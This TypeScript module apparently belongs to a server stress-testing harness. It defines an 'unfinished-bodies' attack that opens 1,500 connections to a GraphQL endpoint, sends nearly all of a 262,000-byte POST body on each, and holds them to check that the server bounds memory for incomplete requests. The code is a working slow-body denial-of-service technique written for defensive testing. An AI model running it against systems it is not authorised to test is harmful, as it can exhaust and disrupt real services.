/**
 * Requests that send nearly all of a great body and leave the rest: what is kept of them must be bounded together.
 */
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import type { Attack } from '../attack.js';

const CONNECTIONS = 1_500;
const LENGTH = 262_000;
const HOLD_MS = 4_000;

export const unfinishedBodies: Attack = {
  name: 'unfinished-bodies',
  what: `${CONNECTIONS} requests that send all of a body of ${LENGTH} bytes but the last, and wait`,
  run: (target) =>
    target.whileAsking(async () => {
      const { hostname, port, host } = new URL(target.url);
      const head = `POST /graphql HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${LENGTH}\r\n\r\n{`;
      const body = Buffer.concat([Buffer.from(head), Buffer.alloc(LENGTH - 2, ' ')]);
      const sockets: Socket[] = Array.from({ length: CONNECTIONS }, () => {
        const socket = connect(Number(port), hostname);
        socket.on('error', () => undefined);
        socket.write(body);
        return socket;
      });
      await pause(HOLD_MS);
      for (const socket of sockets) socket.destroy();
    }),
};
